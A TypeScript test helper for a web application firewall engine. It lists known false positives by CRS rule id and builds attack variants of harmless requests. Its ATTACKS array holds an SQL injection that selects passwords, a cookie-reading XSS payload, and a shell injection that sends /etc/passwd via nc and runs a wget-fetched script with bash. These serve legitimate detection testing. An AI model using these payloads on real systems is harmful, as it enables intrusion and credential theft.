import { readFileSync } from 'node:fs'
import { setRequestBody } from '../../../src/features/waf/engine/body-values.js'
import { setRequestHead } from '../../../src/features/waf/engine/request-values.js'
import type { RuleSet } from '../../../src/features/waf/engine/rule-set.js'
import { Transaction } from '../../../src/features/waf/engine/transaction.js'
import { atOnce } from '../../../src/lib/slices.js'

/** Harmless texts by kind, as Latin-1 text of their UTF-8 bytes. */
export const harmlessTexts: readonly string[] = Object.values(
  JSON.parse(readFileSync('test/features/waf/harmless/texts.json', 'utf8')) as Record<string, string[]>
)
  .flat()
  .map((text) => Buffer.from(text, 'utf8').toString('latin1'))

/** A harmless request; the body is text of which UTF-8 is sent. */
export interface HarmlessRequest {
  readonly name: string
  readonly method: string
  readonly uri: string
  readonly headers: Readonly<Record<string, string>>
  readonly body?: string
}

/** Requests of browsers, forms, uploads and APIs. */
export const harmlessRequests = JSON.parse(
  readFileSync('test/features/waf/harmless/requests.json', 'utf8')
) as readonly HarmlessRequest[]

/** Methods and types of APIs, which an operator permits in `crs-setup.conf`. */
export const HARMLESS_SETTINGS = `
SecAction "id:900200,phase:1,pass,nolog,setvar:'tx.allowed_methods=GET HEAD POST OPTIONS PUT PATCH DELETE',\\
  setvar:'tx.allowed_request_content_type=|application/x-www-form-urlencoded| |multipart/form-data| |application/json| |application/xml| |text/plain|'"
`

/** A harmless request that rules deny, as they are written. */
interface FalsePositive {
  readonly rules: readonly number[]
  /** Text of the request that the rules take for an attack. */
  readonly reason: string
}

/**
 * Requests that rules of paranoia level 1 deny, by name. ModSecurity 3.0.9 in nginx 1.22 denies exactly these of all requests with the same
 * rules (4.29.0-dev) and settings, and reports the same rules; in two it reports 942100 as well, because libinjection takes the text for
 * a statement.
 */
export const FALSE_POSITIVES: Readonly<Record<string, FalsePositive>> = {
  'search with quotes': { rules: [942_360], reason: 'after a quote, `load balancing` begins a statement' },
  'GraphQL query': { rules: [932_235, 942_190], reason: '`{ node ` is a command, `User(` a function of SQL' },
  'weblog: article of the editor': {
    rules: [920_450, 941_180],
    reason: 'the field X-HTTP-Method-Override, and `<!--` of the editor'
  },
  'code: search': { rules: [941_390], reason: '`import {` is a script' },
  'code: protocol': { rules: [930_130], reason: '`.git/` is a private folder' },
  'code: comment with a command': {
    rules: [930_120, 932_230, 932_235, 932_250, 932_260],
    reason: 'commands of a shell, and `/var/log`'
  },
  'code: comment with a script': { rules: [941_100, 941_110, 941_160], reason: '`<script src=…>`' },
  'code: review': { rules: [932_140, 942_230], reason: '`if (text === …` is a command of Windows, or an IF of SQL' },
  'code: hook of a push': { rules: [930_120], reason: '`package.json` is a file of the server' },
  'code: snippet': { rules: [941_390], reason: '`setTimeout(` is a script' },
  'wiki: edit': { rules: [932_235], reason: '`= History ` is a command of a shell' },
  'wiki: special page': { rules: [942_190, 942_360], reason: '`"select committee" OR` is a statement' },
  'metrics: SQL panel': { rules: [933_180], reason: '`$__timeFilter(` calls a function of PHP by a variable' },
  'GraphQL: list with a filter': {
    rules: [932_235, 942_290],
    reason: '`node ` is a command, `$first` an operator of MongoDB'
  },
  'GraphQL: mutation with input': { rules: [932_235], reason: '`{ post ` is a command of a shell' },
  'API: formula': { rules: [942_230], reason: '`IF(C2>` is a condition of SQL' },
  'API: filter of OData': { rules: [942_290], reason: 'the name `$top` is an operator of MongoDB' },
  'login: a password with signs': { rules: [932_130], reason: '`>(&)` is an expression of a shell' },
  'form: survey': { rules: [942_100], reason: '`2 or 3 = fine` is a condition of SQL' },
  'markdown: a path': { rules: [930_120], reason: '`/var/log` is a file of the server' },
  'proxy: policy': { rules: [942_151], reason: '`startsWith(` is a function of SQL' },
  'proxy: route': { rules: [931_100], reason: 'an address as a number in a URL' },
  'proxy: policy with a log': { rules: [932_130, 933_135], reason: '`${…}` is an expression of a shell, or of PHP' }
}

/** Attacks of different kinds. */
const ATTACKS = [
  "' UNION SELECT name, password FROM users WHERE '1'='1' -- ",
  '<script>alert(document.cookie)</script><img src=x onerror=alert(1)>',
  ';cat /etc/passwd|nc 192.0.2.1 4444;$(wget http://192.0.2.1/x.sh -O- | bash)'
]

/** Returns a harmless request with attacks at the end of its longest value in the body, or else in the query or path. */
export function attacksLike({ name, body, headers, uri, ...rest }: HarmlessRequest): HarmlessRequest[] {
  return ATTACKS.map((attack, i) => {
    const request = { ...rest, name: `${name}, attack ${i + 1}`, headers }
    const [path = '', query] = uri.split('?')
    if (body === undefined)
      return {
        ...request,
        uri: query === undefined ? path + encodeURIComponent(attack) : `${path}?${attackForm(query, attack)}`
      }
    const changed = headers['content-type'] === 'application/json' ? attackJson(body, attack) : attackForm(body, attack)
    return { ...request, uri, body: changed }
  })
}

function attackForm(text: string, attack: string): string {
  const fields = new URLSearchParams(text)
  const longest = Math.max(...[...fields.values()].map((value) => value.length))
  for (const [name, value] of fields) if (value.length === longest) fields.set(name, value + attack)
  return fields.toString()
}

function attackJson(text: string, attack: string): string {
  const strings: string[] = []
  JSON.parse(text, (_, value) => {
    if (typeof value === 'string') strings.push(value)
    return value
  })
  const longest = Math.max(...strings.map(({ length }) => length))
  return JSON.stringify(
    JSON.parse(text, (_, value) => (typeof value === 'string' && value.length === longest ? value + attack : value))
  )
}

/** Returns whether a request has a query, a form or JSON with a text. */
export function hasValues({ uri, headers, body }: HarmlessRequest): boolean {
  if (body === undefined) return /\?.*=/.test(uri)
  const type = headers['content-type'] ?? ''
  return type === 'application/x-www-form-urlencoded' || (type === 'application/json' && /:\s*"/.test(body))
}

/** Ids of the rules that detect attacks, and not of those that set up a transaction or sum up scores. */
const isDetection = (id: number) => id >= 911_000 && id < 949_000

/** Evaluates rules at paranoia level 1 for a request; returns the ids of those that detect attacks. */
export function decideRequest(
  rules: RuleSet,
  { method, uri, headers: fields, body }: HarmlessRequest
): { readonly isDenied: boolean; readonly ids: readonly number[] } {
  const plan = rules.plan(1)
  const transaction = new Transaction({ budget: 1_000_000_000, fixed: plan.fixed })
  const bytes = Buffer.from(body ?? '')
  const all = body === undefined ? fields : { ...fields, 'content-length': String(bytes.length) }
  const headers = Object.entries(all)
    .flat()
    .map((text) => Buffer.from(text, 'utf8').toString('latin1'))
  setRequestHead(transaction, {
    id: 'r1',
    method,
    target: uri,
    protocol: 'HTTP/1.1',
    headers,
    clientAddress: '192.0.2.10',
    clientPort: 40_000,
    serverName: 'app.example.com',
    serverPort: 443
  })
  atOnce(plan.run(1, transaction))
  if (body !== undefined) setRequestBody(transaction, { bytes, truncated: false }, headers)
  atOnce(plan.run(2, transaction))
  const ids = [...new Set(transaction.reported.map(({ id }) => id))].filter(isDetection)
  return { isDenied: transaction.denied !== undefined, ids }
}
